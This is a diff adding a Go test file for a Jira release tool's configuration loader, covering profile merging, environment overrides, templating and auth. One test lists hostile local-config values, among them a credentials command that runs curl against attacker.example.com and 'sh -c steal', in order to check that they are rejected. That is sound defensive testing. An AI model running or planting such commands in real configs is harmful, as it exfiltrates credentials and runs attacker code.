@@ -0,0 +1,187 @@
+package config_test
+
+import (
+	"github.com/marcelblijleven/version-meister/config"
+	"github.com/stretchr/testify/assert"
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+const userConfig = `
+default_profile: cloud
+profiles:
+  cloud:
+    url: https://example.atlassian.net
+    username: me@example.com
+    api_version: "3"
+    project: 1337
+    jql:
+      create: project = {{.Project}} AND status = "{{.Status}}"
+    version_name: backend-{{.Name}}
+  onprem:
+    url: https://jira.example.com
+    auth: bearer
+    token: secret
+`
+
+const localConfig = `
+profiles:
+  cloud:
+    project: 4242
+    retry: true
+`
+
+func writeConfig(t *testing.T, dir, name, content string) string {
+	path := filepath.Join(dir, name)
+	assert.Nil(t, ioutil.WriteFile(path, []byte(content), 0600))
+	return path
+}
+
+func TestLoadMergesFiles(t *testing.T) {
+	dir, err := ioutil.TempDir("", "config")
+	assert.Nil(t, err)
+	defer os.RemoveAll(dir)
+
+	user := writeConfig(t, dir, "config.yaml", userConfig)
+	local := writeConfig(t, dir, "local.yaml", localConfig)
+
+	cfg, err := config.Load(user, local, filepath.Join(dir, "missing.yaml"))
+	assert.Nil(t, err)
+
+	profile, err := cfg.Profile("")
+	assert.Nil(t, err)
+	assert.Equal(t, "https://example.atlassian.net", profile.URL)
+	assert.Equal(t, "me@example.com", profile.Username)
+	assert.Equal(t, 4242, profile.Project)
+	assert.True(t, profile.Retry)
+
+	onprem, err := cfg.Profile("onprem")
+	assert.Nil(t, err)
+	assert.Equal(t, "secret", onprem.Token)
+	assert.False(t, onprem.Retry)
+
+	method, err := onprem.AuthMethod()
+	assert.Nil(t, err)
+	assert.Equal(t, config.AuthBearer, method)
+}
+
+func TestLoadLocalFileCannotSetURLOrCredentials(t *testing.T) {
+	dir, err := ioutil.TempDir("", "config")
+	assert.Nil(t, err)
+	defer os.RemoveAll(dir)
+
+	user := writeConfig(t, dir, "config.yaml", userConfig)
+	settings := []string{
+		"url: https://attacker.example.com",
+		"credentials: command",
+		"credentials_command: curl https://attacker.example.com",
+		"credentials_store_command: sh -c steal",
+	}
+
+	for _, setting := range settings {
+		local := writeConfig(t, dir, config.LocalFile, "profiles:\n  cloud:\n    "+setting+"\n")
+		cfg, err := config.Load(user, local)
+
+		assert.NotNil(t, err, setting)
+		assert.Nil(t, cfg, setting)
+	}
+
+	// The user config file may set them
+	cfg, err := config.Load(writeConfig(t, dir, "user.yaml", "profiles:\n  cloud:\n    "+settings[2]+"\n"))
+	assert.Nil(t, err)
+	assert.NotNil(t, cfg)
+}
+
+func TestLoadUnknownKeyReturnsError(t *testing.T) {
+	dir, err := ioutil.TempDir("", "config")
+	assert.Nil(t, err)
+	defer os.RemoveAll(dir)
+
+	path := writeConfig(t, dir, "config.yaml", "profiles:\n  cloud:\n    adress: https://example.com\n")
+	cfg, err := config.Load(path)
+
+	assert.NotNil(t, err)
+	assert.Nil(t, cfg)
+}
+
+func TestProfileDoesNotExist(t *testing.T) {
+	cfg, err := config.Load()
+	assert.Nil(t, err)
+
+	profile, err := cfg.Profile("staging")
+	assert.Equal(t, "Profile staging does not exist", err.Error())
+	assert.Nil(t, profile)
+
+	profile, err = cfg.Profile("")
+	assert.Nil(t, err)
+	assert.Equal(t, &config.Profile{}, profile)
+}
+
+func TestProfileApplyEnv(t *testing.T) {
+	env := map[string]string{
+		"JIRA_URL":      "https://override.example.com",
+		"JIRA_PASSWORD": "password",
+	}
+	profile := &config.Profile{URL: "https://example.com", Username: "me"}
+	profile.ApplyEnv(func(key string) string {
+		return env[key]
+	})
+
+	assert.Equal(t, "https://override.example.com", profile.URL)
+	assert.Equal(t, "me", profile.Username)
+	assert.Equal(t, "password", profile.Password)
+}
+
+func TestProfileApplyEnvToken(t *testing.T) {
+	profile := &config.Profile{}
+	profile.ApplyEnv(func(key string) string {
+		if key == "JIRA_TOKEN" {
+			return "secret"
+		}
+		return ""
+	})
+
+	assert.Equal(t, "secret", profile.Token)
+	assert.Equal(t, config.AuthBearer, profile.Auth)
+}
+
+func TestProfileUnknownAuthMethod(t *testing.T) {
+	profile := &config.Profile{Auth: "oauth"}
+	_, err := profile.AuthMethod()
+
+	assert.NotNil(t, err)
+}
+
+func TestProfileRenderJQL(t *testing.T) {
+	profile := &config.Profile{JQL: map[string]string{"create": "project = {{.Project}} AND status = \"{{.Status}}\""}}
+
+	jql, ok, err := profile.RenderJQL("create", config.JQLData{Project: 1337, Status: "Done"})
+	assert.Nil(t, err)
+	assert.True(t, ok)
+	assert.Equal(t, "project = 1337 AND status = \"Done\"", jql)
+
+	_, ok, err = profile.RenderJQL("version", config.JQLData{})
+	assert.Nil(t, err)
+	assert.False(t, ok)
+}
+
+func TestProfileRenderVersionName(t *testing.T) {
+	profile := &config.Profile{}
+	name, err := profile.RenderVersionName(config.NameData{Name: "1.2.0"})
+	assert.Nil(t, err)
+	assert.Equal(t, "1.2.0", name)
+
+	profile.VersionName = "backend-{{.Name}}-{{.Date}}"
+	name, err = profile.RenderVersionName(config.NameData{Name: "1.2.0", Date: "2020-01-16"})
+	assert.Nil(t, err)
+	assert.Equal(t, "backend-1.2.0-2020-01-16", name)
+}
+
+func TestProfileHasSecret(t *testing.T) {
+	assert.False(t, (&config.Profile{Username: "me"}).HasSecret())
+	assert.True(t, (&config.Profile{Username: "me", Password: "secret"}).HasSecret())
+	assert.False(t, (&config.Profile{Auth: config.AuthBearer, Password: "secret"}).HasSecret())
+	assert.True(t, (&config.Profile{Auth: config.AuthBearer, Token: "token"}).HasSecret())
+}